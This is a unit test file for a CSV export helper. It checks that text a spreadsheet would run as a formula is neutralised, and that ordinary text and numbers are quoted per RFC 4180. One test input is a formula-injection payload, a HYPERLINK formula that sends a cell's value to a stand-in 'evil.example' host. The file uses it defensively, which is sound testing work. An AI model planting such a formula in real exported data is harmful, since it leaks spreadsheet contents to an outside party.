import { describe, expect, it } from 'vitest';
import { csvCell, csvText, neutraliseFormula } from './csv.js';

describe('the shared CSV cell writer', () => {
  it('neutralises text a spreadsheet would run as a formula (OWASP: = + - @ tab CR), and quotes it', () => {
    expect(csvText('=HYPERLINK("http://evil.example/?leak="&A1,"click")')).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`);
    expect(csvText('+49 30 1234')).toBe(`"'+49 30 1234"`);
    expect(csvText('-1+1')).toBe(`"'-1+1"`);
    expect(csvText('@SUM(A1:A9)')).toBe(`"'@SUM(A1:A9)"`);
    expect(csvText('\t=1')).toBe(`"'\t=1"`);
    expect(csvText('\r=1')).toBe(`"'\r=1"`);
    expect(neutraliseFormula('Terror = Gewalt')).toBe('Terror = Gewalt');
  });

  it('leaves other text as RFC 4180 has it, and numbers as numbers (also negative ones)', () => {
    expect(csvText('Tokajew')).toBe('Tokajew');
    expect(csvText('Almaty, Kasachstan')).toBe('"Almaty, Kasachstan"');
    expect(csvText('„Terroristen“ sagte er "laut"')).toBe('"„Terroristen“ sagte er ""laut"""');
    expect(csvCell(-0.25)).toBe('-0.25');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(true)).toBe('true');
    expect(csvCell('-0.25')).toBe(`"'-0.25"`);
  });
});
